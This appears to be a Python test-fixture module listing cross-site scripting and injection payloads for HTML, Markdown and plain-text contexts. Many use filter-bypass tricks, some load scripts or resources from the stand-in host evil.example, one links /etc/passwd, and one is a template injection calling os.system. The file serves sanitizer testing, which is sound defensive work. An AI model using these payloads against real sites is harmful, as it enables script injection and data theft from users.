"""Texts that try to become code: to rename the page to ``hacked``, or to fetch something.

What renames it has no value, since a link's script that has one puts that in the place of the page.
"""

from __future__ import annotations

MARKUP = (
    "<script>void(document.title='hacked')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>void(document.title='hacked')</script>",
    "<img src=x onerror=\"void(document.title='hacked')\">",
    "<img src=x onerror=void(document.title='hacked')//",
    "<IMG SRC=\"javascript:void(document.title='hacked')\">",
    "<img src='x' srcset='https://evil.example/2x 2x'>",
    "<img/src=x/onerror=void(document.title='hacked')>",
    '<img """><script>document.title=\'hacked\'</script>">',
    "<svg onload=void(document.title='hacked')>",
    "<svg><script>void(document.title='hacked')</script></svg>",
    "<svg><animate onbegin=void(document.title='hacked') attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=\"javascript:void(document.title='hacked')\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=void(document.title='hacked')></style></math>",
    "<iframe src=\"javascript:void(parent.document.title='hacked')\"></iframe>",
    "<iframe srcdoc=\"<script>void(parent.document.title='hacked')</script>\"></iframe>",
    "<object data=\"data:text/html,<script>void(document.title='hacked')</script>\"></object>",
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "<body onload=void(document.title='hacked')>",
    "<input autofocus onfocus=void(document.title='hacked')>",
    "<select autofocus onfocus=void(document.title='hacked')></select>",
    "<textarea autofocus onfocus=void(document.title='hacked')></textarea>",
    "<details open ontoggle=void(document.title='hacked')><summary>x</summary></details>",
    "<video src=x onerror=void(document.title='hacked')></video>",
    "<video><source onerror=void(document.title='hacked')></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<marquee onstart=void(document.title='hacked')>x</marquee>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "<form action=https://evil.example/><button>x</button><input type=image src=x></form>",
    "<button formaction=\"javascript:void(document.title='hacked')\">x</button>",
    "<a href=\"javascript:void(document.title='hacked')\">x</a>",
    "<a href=\"  JaVaScRiPt:void(document.title='hacked')\">x</a>",
    "<a href=\"java&#x09;script:void(document.title='hacked')\">x</a>",
    "<a href=\"&#106;avascript&colon;void(document.title='hacked')\">x</a>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<a href=x onclick=void(document.title='hacked')>x</a>",
    "<a href='#' ping=https://evil.example/ target=_top>x</a>",
    "<blockquote cite=\"javascript:void(document.title='hacked')\">x</blockquote>",
    "<noscript><p title=\"</noscript><img src=x onerror=void(document.title='hacked')>\"></noscript>",
    "<template><script>void(document.title='hacked')</script></template>",
    "<!--><script>void(document.title='hacked')</script>-->",
    "<!--[if IE]><script>void(document.title='hacked')</script><![endif]-->",
    "<?xml-stylesheet href=\"javascript:void(document.title='hacked')\"?>",
    "<![CDATA[<script>void(document.title='hacked')</script>]]>",
    "</main></article></body></html><script>void(document.title='hacked')</script>",
    "</title><script>void(document.title='hacked')</script>",
    "</style><script>void(document.title='hacked')</script>",
    "<div id=et-main class='et-notice et-hidden' data-state=draft>x</div>",
    "<x onmouseover=void(document.title='hacked') style=position:fixed;inset:0>x</x>",
)

MARKDOWN = (
    "[x](javascript:void(document.title='hacked'))",
    "[x](JAVASCRIPT:void(document.title='hacked'))",
    "[x](<java\tscript:void(document.title='hacked')>)",
    "[x](&#106;avascript:void(document.title='hacked'))",
    "[x](javascript&colon;void(document.title='hacked'))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>void(document.title='hacked')</script>)",
    "[x](file:///etc/passwd)",
    "[x](ssh://x.example) <magnet:?xt=x> [y](x-apple.systempreferences:z)",
    "![x](javascript:void(document.title='hacked'))",
    "![x](data:image/svg+xml,<svg/onload=void(document.title='hacked')>)",
    "![x\" onerror=\"void(document.title='hacked')](x)",
    "![x](x \"t' onerror='document.title=1\")",
    "![x](x\"onerror=void(document.title='hacked'))",
    "[x](x '\" onclick=\"document.title=1')",
    "<javascript:void(document.title='hacked')>",
    "<data:text/html,x>",
    "[x][r]\n\n[r]: javascript:void(document.title='hacked') \"t\"",
    "`<script>void(document.title='hacked')</script>`",
    "# <img src=x onerror=void(document.title='hacked')>",
    "```\"><script>void(document.title='hacked')</script>\nx\n```",
    "[^\"onclick=x]\n\n[^\"onclick=x]: <script>void(document.title='hacked')</script>",
    "| <img src=x onerror=void(document.title='hacked')> |\n|---|",
)

PLAIN = (
    "\"><script>void(document.title='hacked')</script>",
    "' onmouseover='document.title=1",
    "</title><script>void(document.title='hacked')</script>",
    "--><script>void(document.title='hacked')</script>",
    "{{ 7 * 7 }}{% raw %}",
    "&lt;script&gt;void(document.title='hacked')&lt;/script&gt;",
)
"""For places that hold plain text, such as front matter and attributes."""

# --- further ones, a line each; HACK stands for what renames the page -------------------------------------

_MARKUP = r"""
<script src=https://evil.example/x.js></script>
<script type=module>HACK</script>
<script type="application/ld+json">{"@type":"</script><script>HACK</script>"}</script>
<script/x>HACK</script
<script >HACK</script >
<<script>HACK//<</script>
<script>HACK
<svg><script href=data:text/javascript,HACK></script></svg>
<svg><script xlink:href=https://evil.example/x.js></script></svg>
<svg><style>*{background:url(https://evil.example/s)}</style></svg>
<svg><image href=https://evil.example/i.svg /></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>HACK</script></svg>#x"/></svg>
<svg><foreignObject><iframe src=https://evil.example/></iframe></foreignObject></svg>
<svg><set attributeName=onmouseover to="HACK"></svg>
<svg><a><animate attributeName=href values="javascript:HACK"/><text y=20>x</text></a></svg>
<svg><title><img src=x onerror="HACK"></title></svg>
<svg><desc><p title="</desc><img src=x onerror=HACK>"></svg>
<svg></p><style><a id="</style><img src=x onerror=HACK>">
<math href="javascript:HACK">x</math>
<math><maction actiontype=statusline xlink:href="javascript:HACK">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=HACK></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HACK>
<form id=f></form><button form=f formaction="javascript:HACK">x</button>
<form name=body action=https://evil.example/><input type=submit autofocus></form>
<isindex action="javascript:HACK" type=image>
<input type=image src=https://evil.example/i.png onerror=HACK>
<input onblur=HACK autofocus><input autofocus>
<keygen autofocus onfocus=HACK>
<label onclick=HACK>x<input type=checkbox onclick=HACK></label>
<details ontoggle=HACK open>x</details>
<dialog open onclose=HACK><form method=dialog><button>x</button></form></dialog>
<div popover id=p onbeforetoggle=HACK>x</div><button popovertarget=p>x</button>
<video poster=https://evil.example/p.png></video>
<video controls><track src=https://evil.example/t.vtt default></video>
<audio src=x onerror=HACK></audio>
<picture><source srcset=https://evil.example/p.png><img src=x alt=x></picture>
<img src=x:x onerror="HACK">
<img src=x onerror=&#118;oid(document.title='hacked')>
<img src=x alt=">" onerror="HACK">
<img src="x" ONERROR=HACK>
<img src=x onload=HACK onerror=HACK onmouseover=HACK>
<img lowsrc="javascript:HACK" dynsrc="javascript:HACK">
<img src=x usemap=#m><map name=m><area href="javascript:HACK" shape=default></map>
<img src=x longdesc="javascript:HACK">
<img src=`x`onerror=HACK>
<image src=x onerror=HACK>
<object type=text/html data=https://evil.example/></object>
<object classid=clsid:x><param name=url value="javascript:HACK"></object>
<embed src="javascript:HACK">
<applet code=x archive=https://evil.example/a.jar></applet>
<frameset onload=HACK><frame src="javascript:HACK"></frameset>
<iframe src=https://evil.example/></iframe>
<iframe src=data:text/html,<script>parent.HACK</script>></iframe>
<iframe onload=HACK></iframe>
<portal src=https://evil.example/ onclick=HACK></portal>
<link rel=prefetch href=https://evil.example/p>
<link rel=preload as=image href=https://evil.example/p>
<link rel=modulepreload href=https://evil.example/p.js>
<link rel=icon href=https://evil.example/favicon.ico>
<link rel=import href=https://evil.example/x.html>
<link rel=manifest href=https://evil.example/m.json>
<link rel=stylesheet href="data:text/css,*{background:url(https://evil.example/c)}">
<meta http-equiv=refresh content="0;url=javascript:HACK">
<META HTTP-EQUIV="refresh" CONTENT="0; URL=data:text/html,<script>HACK</script>">
<meta http-equiv=Set-Cookie content="a=b">
<meta http-equiv=Link content="<https://evil.example/x.css>; rel=stylesheet">
<meta name=referrer content=unsafe-url>
<base target=_top><a href=x>x</a>
<style>body{background:url("https://evil.example/b")}</style>
<style>@font-face{font-family:a;src:url(https://evil.example/f)}*{font-family:a}</style>
<style onload=HACK></style>
<p style="list-style:url(https://evil.example/l);display:list-item">x</p>
<p style="width:expression(HACK)">x</p>
<p class=et-skip style=position:fixed>x</p>
<table background=https://evil.example/t><tr><td background=https://evil.example/d>x</table>
<body background=https://evil.example/b onpageshow=HACK>
<a href="jav&#x0A;ascript:HACK">x</a>
<a href="&#1;javascript:HACK">x</a>
<a href="javascript&Tab;:HACK">x</a>
<a href="feed:javascript:HACK">x</a>
<a href="blob:https://evil.example/x">x</a>
<a href="view-source:javascript:HACK">x</a>
<a href="//evil.example\@x" onfocus=HACK tabindex=1>x</a>
<a hreflang='en" onclick="HACK' href=x>x</a>
<a id=x tabindex=1 onfocusin=HACK>x</a>
<area href="javascript:HACK">
<button onclick=HACK>x</button>
<select onchange=HACK><option>x</select>
<textarea onfocus=HACK autofocus></textarea></textarea><img src=x onerror=HACK>
<title>hacked</title>
<xmp><p title="</xmp><img src=x onerror=HACK>"></xmp>
<noembed><img src=x onerror=HACK></noembed>
<noframes><img src=x onerror=HACK></noframes>
<plaintext><img src=x onerror=HACK>
<listing>&lt;img src=x onerror=HACK&gt;</listing>
<template shadowrootmode=open><slot onslotchange=HACK></slot><img src=x onerror=HACK></template>
<slot onslotchange=HACK><b>x</b></slot>
<marquee behavior=alternate onbounce=HACK>x</marquee>
<bgsound src=https://evil.example/b.mid>
<p onanimationstart=HACK style="animation:x 1s">x</p>
<p contenteditable onpaste=HACK oninput=HACK>x</p>
<p id="__proto__" name=constructor onwheel=HACK>x</p>
<p data-state='et-draft"><script>HACK</script>'>x</p>
<p lang='"><script>HACK</script>' dir='rtl" onclick=HACK'>x</p>
<p title="--><script>HACK</script>">x</p>
<!-- --!><script>HACK</script> -->
<!-- `--><img src=x onerror=HACK> -->
<!doctype html [<!ENTITY x "<script>HACK</script>">]>&x;
<?php echo "<script>HACK</script>" ?>
<%= "<script>HACK</script>" %>
&lt;script&gt;HACK&lt;/script&gt;<![CDATA[<img src=x onerror=HACK>]]>
<b><script>HACK</b></script>
<a href=x><a href="javascript:HACK">x</a></a>
<table><td><svg><desc><td></desc></svg><img src=x onerror=HACK></table>
"""

_MARKDOWN = r"""
[x](  javascript:HACK  )
[x](javascript:HACK "title" )
[x](<javascript:HACK>)
[x](javascript:%76oid(document.title='hacked'))
[x](\javascript:HACK)
[x](java&NewLine;script:HACK)
[![x](i.png)](javascript:HACK)
![x][r]\n\n[r]: javascript:HACK
![](https://x.example/" onerror="HACK)
[x](//evil.example/" onmouseover="HACK)
<https://x.example/"onmouseover="HACK>
<x@y.example"onmouseover="HACK>
~~<img src=x onerror=HACK>~~
**<svg/onload=HACK>**
> [!NOTE]\n> <img src=x onerror=HACK>
- [ ] <img src=x onerror=HACK>
term\n: <img src=x onerror=HACK>
[^<img src=x onerror=HACK>]\n\n[^<img src=x onerror=HACK>]: x
```html\n<img src=x onerror=HACK>\n```
```python\nx = "</span><img src=x onerror=HACK>"\n```
    <script>HACK</script>
<!-- i18n:comment: a --><script>HACK</script>
| <svg onload=HACK> | `\|` |\n|---|---|\n| <script>HACK</script> | x |
Setext <img src=x onerror=HACK>\n===
\<script>HACK\</script> <scri\pt>HACK</script>
"""

_PLAIN = r"""
</script><script>HACK</script>
<!--<script>HACK</script>
\u003cscript\u003eHACK\u003c/script\u003e
]]></title><script xmlns="http://www.w3.org/1999/xhtml">HACK</script>
"},"x":"</script><img src=x onerror=HACK>
{{ cycler.__init__.__globals__.os.system("x") }}
"""


def _lines(text: str) -> tuple[str, ...]:
    lines = text.strip("\n").replace("parent.HACK", "void(parent.document.title='hacked')").split("\n")
    return tuple(line.replace(r"\n", "\n").replace("HACK", "void(document.title='hacked')") for line in lines)


MARKUP += _lines(_MARKUP)
MARKDOWN += _lines(_MARKDOWN)
PLAIN += _lines(_PLAIN)
